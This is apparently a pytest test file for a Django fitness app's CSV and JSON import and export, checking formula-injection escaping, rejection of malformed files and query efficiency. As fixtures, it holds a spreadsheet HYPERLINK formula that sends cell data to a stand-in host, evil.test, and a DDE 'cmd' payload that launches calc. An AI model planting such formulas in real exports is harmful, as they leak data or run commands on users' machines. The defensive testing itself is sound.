"""What a hostile or clumsy spreadsheet can do to an import, and what an export can carry into
a spreadsheet: refused with a message, neutralised, and never slow."""

import csv
import io
import json
import zipfile
from datetime import date, timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext

from apps.assessments.models import Assessment
from tests.assessments.factories import AssessmentFactory
from tests.plans.factories import PlanFactory

pytestmark = pytest.mark.django_db

HEADER = "date,instrument,hip_angle_left,hip_angle_right,notes"
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"x")'


def upload(text):
    return SimpleUploadedFile("tests.csv", text.encode(), content_type="text/csv")


def preview(client, text):
    return client.post("/tests/import/", {"file": upload(text)}).content.decode()


def rows_of(csv_text):
    return list(csv.DictReader(io.StringIO(csv_text)))


def test_text_that_would_start_a_formula_is_exported_as_text(runner_client, runner, coach):
    AssessmentFactory(runner=runner, hip_angle_right=-2, notes=FORMULA)
    PlanFactory(runner=runner, author=coach, title="+cmd|' /C calc'!A0", notes="@SUM(1+1)")

    tests = rows_of(runner_client.get("/tests/export.csv").content.decode())
    archive = zipfile.ZipFile(io.BytesIO(runner_client.get("/account/export.zip").content))
    plans = rows_of(archive.read("plans.csv").decode())
    zipped_tests = rows_of(archive.read("tests.csv").decode())

    assert tests[0]["notes"] == "'" + FORMULA
    assert tests[0]["hip_angle_right"] == "-2"  # a number stays a number
    assert zipped_tests[0]["notes"] == "'" + FORMULA
    assert (plans[0]["title"], plans[0]["notes"]) == ("'+cmd|' /C calc'!A0", "'@SUM(1+1)")


def test_an_exported_formula_comes_back_as_the_runner_wrote_it(runner_client, runner):
    AssessmentFactory(runner=runner, taken_on=date(2026, 1, 5), notes="-felt tight")
    exported = runner_client.get("/tests/export.csv").content.decode()
    Assessment.objects.all().delete()

    runner_client.post("/tests/import/", {"file": upload(exported)})
    runner_client.post("/tests/import/", {"file": upload(exported), "confirm": "1"})

    assert Assessment.objects.get().notes == "-felt tight"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (f"{HEADER},notes\n2026-01-05,phone,3,1,a,b\n", "names notes more than once"),
        (f'{HEADER}\n2026-01-05,phone,3,1,"never closed\n', "not valid CSV: unexpected end"),
        (f"{HEADER}\n2026-01-05,phone,3,1,a\x00b\n", "contains a NUL character"),
    ],
)
def test_a_broken_file_is_refused_whole_with_a_message(runner_client, text, message):
    page = runner_client.post("/tests/import/", {"file": upload(text), "confirm": "1"})

    assert message in page.content.decode()
    assert not Assessment.objects.exists()


def test_blank_lines_do_not_count_towards_the_row_limit(runner_client, settings):
    from apps.portability import tests_csv

    start = date(2020, 1, 1)
    lines = [
        f"{start + timedelta(days=n)},phone,3,1,row {n}" for n in range(tests_csv.MAX_IMPORT_ROWS)
    ]
    # Spreadsheets save empty rows as lines of commas.
    text = HEADER + "\n" + "\n,,,,\n".join(lines) + "\n"

    page = preview(runner_client, text)

    assert f"{tests_csv.MAX_IMPORT_ROWS} tests ready to import" in page


def test_a_full_import_costs_the_same_few_queries_whatever_its_size(
    runner_client, runner, monkeypatch
):
    from apps.accounts import throttle

    monkeypatch.setattr(throttle.random, "random", lambda: 1)  # no clean-up of old counts now

    def queries_for(rows):
        start = date(2020, 1, 1)
        lines = [f"{start + timedelta(days=n)},phone,3,1,row {n}" for n in range(rows)]
        text = HEADER + "\n" + "\n".join(lines) + "\n"
        with CaptureQueriesContext(connection) as captured:
            runner_client.post("/tests/import/", {"file": upload(text)})
            runner_client.post("/tests/import/", {"file": upload(text), "confirm": "1"})
        assert Assessment.objects.count() == rows
        Assessment.objects.all().delete()
        return len(captured)

    assert queries_for(2000) <= queries_for(2) + 4  # a bulk insert takes a few batches
    assert Assessment.objects.count() == 0  # each size was imported, then removed


def exported(client, runner, days):
    from apps.sitting.models import SittingDay

    today = runner.profile.today()
    SittingDay.objects.bulk_create(
        SittingDay(runner=runner, day=today - timedelta(days=n), minutes_seated=60)
        for n in range(days)
    )
    AssessmentFactory(runner=runner, taken_on=today)
    return json.loads(client.get("/account/export.json").content)


def import_as_newcomer(client_class, data):
    from tests.factories import UserFactory

    newcomer = client_class()
    newcomer.force_login(UserFactory())
    return newcomer.post(
        "/account/import/", {"file": SimpleUploadedFile("x.json", json.dumps(data).encode())}
    )


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda d: d["tests"][0].update(notes="a\x00b"), "NUL character"),
        (lambda d: d["tests"].append(dict(d["tests"][0])), "Two tests have the same date"),
        (lambda d: d["tests"][0].update(hip_angle_left=61), "hip angle left must be from -40"),
    ],
)
def test_a_damaged_json_export_is_refused_with_a_message(
    runner_client, runner, client_class, change, message
):
    data = exported(runner_client, runner, days=2)
    change(data)

    response = import_as_newcomer(client_class, data)

    assert response.status_code == 400
    assert message in response.content.decode().replace("&#x27;", "'")
    assert Assessment.objects.count() == 1  # the runner's own


def test_a_json_import_costs_the_same_few_queries_whatever_its_size(
    runner_client, runner, client_class
):
    def queries_for(days):
        data = exported(runner_client, runner, days)
        with CaptureQueriesContext(connection) as captured:
            response = import_as_newcomer(client_class, data)
        assert response.status_code == 302
        from apps.sitting.models import SittingDay

        SittingDay.objects.all().delete()
        Assessment.objects.all().delete()
        return len(captured)

    assert queries_for(2000) <= queries_for(2) + 2  # a bulk insert may take a second batch
